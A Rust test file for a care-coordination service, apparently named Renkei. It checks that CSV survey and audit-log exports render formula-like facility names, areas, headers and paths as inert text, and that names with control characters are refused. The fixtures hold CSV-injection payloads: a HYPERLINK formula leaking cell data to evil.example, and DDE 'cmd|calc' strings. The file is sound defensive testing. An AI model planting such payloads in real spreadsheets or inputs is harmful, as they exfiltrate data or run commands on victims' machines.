//! Every CSV file Renkei writes opens in a spreadsheet as text: a facility or area named like a
//! formula, an address or a path a stranger sent, become cells that do not run (the survey by
//! hospital and by area in both encodings, the audit log). Names with control characters are
//! refused where they are entered.

use renkei::directory::{self, FacilityKind, NewFacility, Role};
use serde_json::json;

use crate::support::{TestApp, day, spawn_app};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"クリック\")";
/// The same in a header, which carries ASCII only.
const ASCII_FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";

/// The cells of a CSV file (UTF-8 with BOM, or Shift_JIS).
fn cells(bytes: &[u8], shift_jis: bool) -> Vec<String> {
    let text = if shift_jis {
        encoding_rs::SHIFT_JIS.decode(bytes).0.into_owned()
    } else {
        String::from_utf8(bytes.strip_prefix(b"\xEF\xBB\xBF".as_slice()).unwrap_or(bytes).to_vec()).unwrap()
    };
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

/// A cell a spreadsheet would run: it starts a formula and is not a number.
fn runs(cell: &str) -> bool {
    let first = cell.trim_start().chars().next();
    first.is_some_and(|c| matches!(c, '=' | '+' | '-' | '@') || c.is_control()) && cell.parse::<f64>().is_err()
}

/// A hospital named like a formula, and a care office whose area is, each with a user: their
/// tokens.
pub fn formula_facilities(app: &TestApp) -> (String, String) {
    (
        app.facility_with_user(
            "@H9",
            FORMULA,
            FacilityKind::Hospital,
            "中央圏域",
            "nurse@h9.example.jp",
            Role::DischargeNurse,
        ),
        app.facility_with_user(
            "C9",
            "-2+3+cmd|' /C calc'!A0",
            FacilityKind::CareOffice,
            "+AREA",
            "cm@c9.example.jp",
            Role::CareManager,
        ),
    )
}

#[tokio::test]
async fn names_like_formulas_are_text_in_every_survey_csv_and_numbers_stay_numbers() {
    let app = spawn_app().await;
    let (nurse, care_manager) = formula_facilities(&app);
    let client = json!({"name": "連携 花子", "name_kana": "レンケイ ハナコ", "birth_date": "1940-02-11", "sex": "female",
                        "insurance_number": "0100000009", "care_level": "要介護2"});
    assert_eq!(app.register_client(&care_manager, &client).await.status, 201);
    let patient = json!({"name": "連携 花子", "name_kana": "レンケイ ハナコ", "birth_date": "1940-02-11", "sex": "female",
                         "insurance_number": "0100000009"});
    let admitted = app.register_admission(&nurse, &json!({"client": patient, "admitted_on": day(-2)})).await;
    assert_eq!(admitted.status, 201, "{}", admitted.body);

    let period = format!("from={}&to={}", day(-30), day(0));
    for group_by in ["hospital", "care_office", "area", "hospital_in_city"] {
        for encoding in ["utf-8", "shift_jis"] {
            let url = format!("/api/v1/survey?{period}&group_by={group_by}&format=csv&encoding={encoding}");
            let response = app
                .client
                .get(format!("{}{url}", app.address))
                .bearer_auth(&app.city().coordinator)
                .send()
                .await
                .unwrap();
            assert_eq!(response.status(), 200);
            let cells = cells(&response.bytes().await.unwrap(), encoding == "shift_jis");
            let running: Vec<&String> = cells.iter().filter(|c| runs(c)).collect();
            assert!(running.is_empty(), "{group_by} {encoding}: {running:?}");
            if group_by == "hospital" {
                assert!(cells.contains(&format!("'{FORMULA}")), "the name is kept, as text: {cells:?}");
                assert!(cells.contains(&"'@H9".to_owned()), "{cells:?}");
            }
            if group_by == "area" {
                assert!(cells.contains(&"'+AREA".to_owned()), "{cells:?}");
            }
            assert!(cells.iter().any(|c| c == "1"), "counts stay numbers: {cells:?}");
        }
    }
}

#[tokio::test]
async fn what_a_stranger_sends_is_text_in_the_audit_csv() {
    let app = spawn_app().await;
    let forwarded = app
        .client
        .get(format!("{}/api/v1/me", app.address))
        .bearer_auth("renkei_0000")
        .header("X-Forwarded-For", ASCII_FORMULA)
        .send()
        .await
        .unwrap();
    assert_eq!(forwarded.status(), 401);
    let path = app
        .client
        .get(format!("{}/api/v1/documents/=1+2+cmd|'%20calc'!A0", app.address))
        .bearer_auth(&app.city().nurse)
        .send()
        .await
        .unwrap();
    assert_eq!(path.status(), 404);

    let export = app
        .client
        .get(format!("{}/api/v1/admin/audit?format=csv", app.address))
        .bearer_auth(&app.city().admin)
        .send()
        .await
        .unwrap();
    assert_eq!(export.status(), 200);
    let cells = cells(&export.bytes().await.unwrap(), false);
    let running: Vec<&String> = cells.iter().filter(|c| runs(c)).collect();
    assert!(running.is_empty(), "{running:?}");
    assert!(cells.contains(&format!("'{ASCII_FORMULA}")), "the forwarded address is kept, as text: {cells:?}");
    assert!(cells.iter().any(|c| c.starts_with("'=1+2+cmd")), "{cells:?}");
    // The nurse's token had not been seen before: the malformed id is still an attempt by a known
    // user, audited before the 404 left.
    let entries = app.get("/api/v1/admin/audit", &app.city().admin).await;
    let attempt = entries
        .body
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["route"] == "/api/v1/documents/{id}" && e["action"] == "read");
    let attempt = attempt.unwrap_or_else(|| panic!("no read audited: {}", entries.body));
    assert_eq!(attempt["status"], 404);
    assert!(attempt["user_id"].is_string(), "{attempt}");
}

#[tokio::test]
async fn names_with_control_characters_are_refused_with_the_field_named() {
    let app = spawn_app().await;
    let client =
        json!({"name": "連携\t花子", "name_kana": "レンケイ ハナコ", "birth_date": "1940-02-11", "sex": "female"});
    let refused = app.register_client(&app.city().care_manager, &client).await;
    assert_eq!(refused.status, 422, "{}", refused.body);
    assert_eq!(refused.body["errors"][0]["pointer"], "/name");
    assert_eq!(refused.body["errors"][0]["message"], "「氏名」に改行やタブなどの制御文字は使えません");
    let admission = json!({"client": {"name": "連携\r\n花子", "name_kana": "レンケイ ハナコ", "birth_date": "1940-02-11",
                                      "sex": "female"}, "admitted_on": day(-1)});
    let refused = app.register_admission(&app.city().nurse, &admission).await;
    assert_eq!(refused.status, 422, "{}", refused.body);
    assert_eq!(refused.body["errors"][0]["pointer"], "/client/name");
    assert_eq!(app.count("clients"), 0);

    let conn = &mut *app.pool.get().unwrap();
    let named = |name: &str, area: &str| NewFacility {
        code: "H8".into(),
        name: name.into(),
        kind: FacilityKind::Hospital,
        area: Some(area.into()),
        in_city: true,
        contact_windows: vec![],
    };
    for (facility, pointer) in [(named("連携\n病院", "中央"), "/name"), (named("連携病院", "中央\t圏域"), "/area")]
    {
        match directory::create_facility(conn, facility) {
            Err(renkei::error::AppError::Invalid(errors)) => assert_eq!(errors[0].pointer, pointer),
            other => panic!("{other:?}"),
        }
    }
}
